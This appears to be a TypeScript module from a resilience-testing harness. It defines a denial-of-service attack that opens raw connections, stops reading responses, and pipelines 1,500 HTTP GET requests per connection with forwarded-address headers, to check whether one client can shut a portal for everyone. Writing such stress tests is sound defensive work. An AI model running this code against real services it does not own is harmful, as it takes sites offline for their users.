import type { Attack } from '../attack.ts'
import { forwardedLine, hangUp, openLines } from '../raw-lines.ts'

const PIPELINED = 1_500
const WAYS = { short: [1], full: [1, 20] } as const

/** Many requests in one packet whose answers nobody reads: each may hold a place for as long as it likes. */
export const pipelinedRequests: Attack = {
  name: 'pipelined requests, nothing read',
  loses: 'one connection shuts the portal for everybody',
  async run({ target, strangers, size, from, endure }) {
    const { host } = new URL(target.portalUrl)
    for (const lines of WAYS[size]) {
      const addresses = Array.from({ length: lines }, (_, n) => from(n))
      const opened = await openLines(target, addresses)
      for (const [n, socket] of opened.entries()) {
        socket.pause()
        const head = `GET / HTTP/1.1\r\nhost: ${host}\r\n${forwardedLine(target, addresses[n] ?? '')}\r\n`
        socket.write(head.repeat(PIPELINED))
      }
      strangers.count('never read', opened.length * PIPELINED)
      await endure()
      hangUp(opened)
    }
    return []
  },
}
